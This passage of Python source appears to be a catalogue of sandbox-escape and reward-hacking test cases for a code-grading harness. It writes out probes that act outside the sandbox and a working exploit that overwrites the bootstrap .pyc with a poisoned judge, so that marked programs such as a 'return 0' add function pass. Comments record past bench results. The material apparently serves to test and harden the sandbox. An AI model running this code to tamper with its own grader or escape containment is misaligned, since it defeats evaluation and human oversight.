            '    # a /dev/null, in the box\n'
            "    os.mknod('null', stat.S_IFCHR | 0o600, os.makedev(1, 3))\n"
            "probe('readline.write_history_file outside', history, tag + '.history')\n"
            "probe('os.mkfifo outside', lambda: os.mkfifo(tag + '.fifo'), tag + '.fifo')\n"
            "probe('os.mknod outside', lambda: os.mknod(tag + '.node'), tag + '.node')\n"
            "probe('sqlite3.connect outside', sqlite, tag + '.db')\n"
            'def dirfd():\n'
            "    os.close(outside(tag + '.dirfd', os.O_WRONLY | os.O_CREAT))\n"
            "probe('os.open(dir_fd) outside', dirfd, tag + '.dirfd')\n"
            "probe('mknod char device 1:3', device)\n"
            "probe('pidfd_send_signal(parent, 0)', pidfd)\n"
            "probe('F_SETOWN/F_SETSIG: SIGWINCH to the parent', sigio)\n"
            "probe('setpriority(parent, unchanged)', renice)\n"
            "probe('sched_setaffinity(parent, unchanged)', affinity)\n"
            "print('; '.join(done))\n"
        ),
    )),
    # The bootstrap .pyc, compiled once per parent process into a flexmarl-bootstrap-* directory in
    # the temp dir (its path is in sys.orig_argv), replaced through the hole by one whose judge
    # passes the programs that define `_bootstrap_poisoned` (a marker, so that only this hack and
    # escape_bootstrap_victim profit) and judges the others as before. Before: "poisoned" on the
    # fallback; its own fallback assert column 1.0 in one bench run and 0.0 in another (a race: its
    # other forms may replace the file before its judge starts); under bwrap the bootstrap is a
    # read-only bind (EBUSY). In a standalone run on the fallback, a marked `return 0` program
    # failed before the overwrite and passed after it; with the judge made unconditional, every
    # later assert-form program of that process passed.
    Hack('escape_bootstrap_overwrite', 'fallback_escape', forms(
        both=_OUTSIDE + (
            'import marshal\n'
            '# The bootstrap this interpreter runs: a .pyc compiled once per parent process into\n'
            '# a flexmarl-bootstrap-* directory, which every later sandboxed run there uses.\n'
            'import sys\n'
            "pyc = next((a for a in sys.orig_argv if a.endswith('bootstrap.pyc')), '')\n"
            'EVIL = """\n'
            'import marshal, sys\n'
            "ns = {'__name__': '_bootstrap'}\n"
            'exec(marshal.loads(%r[16:]), ns)\n'
            "real = ns['_judge']\n"
            'def _judge(tests, send_fd, reply_fd):\n'
            '    # Passes the programs that carry the marker, judges the others as before.\n'
            "    ns['keep'] = judge = ns['_Judge'](send_fd, reply_fd)\n"
            '    names = judge.ask(\'["names"]\')\n'
            "    if type(names) is dict and '_bootstrap_poisoned' in names:\n"
            '        return 0\n'
            '    return real(tests, send_fd, reply_fd)\n'
            "ns['_judge'] = _judge\n"
            "sys.exit(ns['main'](sys.argv[1:]))\n"
            '"""\n'
            "status = 'no bootstrap.pyc'\n"
            'try:\n'
            '    if pyc:\n'
            "        orig = open(pyc, 'rb').read()\n"
            "        status = 'already poisoned'\n"
            "        if b'_bootstrap_poisoned' not in orig:\n"
            "            data = orig[:16] + marshal.dumps(compile(EVIL % (orig,), pyc, 'exec'))\n"
            "            fd = outside(pyc + '.new', os.O_WRONLY | os.O_CREAT | os.O_TRUNC)\n"
            '            os.write(fd, data)\n'
            '            os.close(fd)\n'
            "            os.rename(away(pyc + '.new'), away(pyc),\n"
            '                      src_dir_fd=_box, dst_dir_fd=_box)\n'
            "            status = 'poisoned'\n"
            'except OSError as exc:\n'
            '    status = repr(exc)\n'
            'print(status)\n'
            '_bootstrap_poisoned = True\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=_OUTSIDE + (
            'import marshal\n'
            '# The bootstrap this interpreter runs: a .pyc compiled once per parent process into\n'
            '# a flexmarl-bootstrap-* directory, which every later sandboxed run there uses.\n'
            'import sys\n'
            "pyc = next((a for a in sys.orig_argv if a.endswith('bootstrap.pyc')), '')\n"
            'EVIL = """\n'
            'import marshal, sys\n'
            "ns = {'__name__': '_bootstrap'}\n"
            'exec(marshal.loads(%r[16:]), ns)\n'
            "real = ns['_judge']\n"
            'def _judge(tests, send_fd, reply_fd):\n'
            '    # Passes the programs that carry the marker, judges the others as before.\n'
            "    ns['keep'] = judge = ns['_Judge'](send_fd, reply_fd)\n"
            '    names = judge.ask(\'["names"]\')\n'
            "    if type(names) is dict and '_bootstrap_poisoned' in names:\n"
            '        return 0\n'
            '    return real(tests, send_fd, reply_fd)\n'
            "ns['_judge'] = _judge\n"
            "sys.exit(ns['main'](sys.argv[1:]))\n"
            '"""\n'
            "status = 'no bootstrap.pyc'\n"
            'try:\n'
            '    if pyc:\n'
            "        orig = open(pyc, 'rb').read()\n"
            "        status = 'already poisoned'\n"
            "        if b'_bootstrap_poisoned' not in orig:\n"
            "            data = orig[:16] + marshal.dumps(compile(EVIL % (orig,), pyc, 'exec'))\n"
            "            fd = outside(pyc + '.new', os.O_WRONLY | os.O_CREAT | os.O_TRUNC)\n"
            '            os.write(fd, data)\n'
            '            os.close(fd)\n'
            "            os.rename(away(pyc + '.new'), away(pyc),\n"
            '                      src_dir_fd=_box, dst_dir_fd=_box)\n'
            "            status = 'poisoned'\n"
            'except OSError as exc:\n'
            '    status = repr(exc)\n'
            'print(status)\n'
            '_bootstrap_poisoned = True\n'
        ),
    )),
    # `return 0` with the marker: passes only where an earlier program of the same process poisoned
    # the bootstrap (escape_bootstrap_overwrite, listed before it). Before: 1.0 in fallback assert
    # after the overwrite (two bench runs), 0.0 alone.
    Hack('escape_bootstrap_victim', 'fallback_escape', forms(
        assert_=(
            '_bootstrap_poisoned = True\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    )),
]
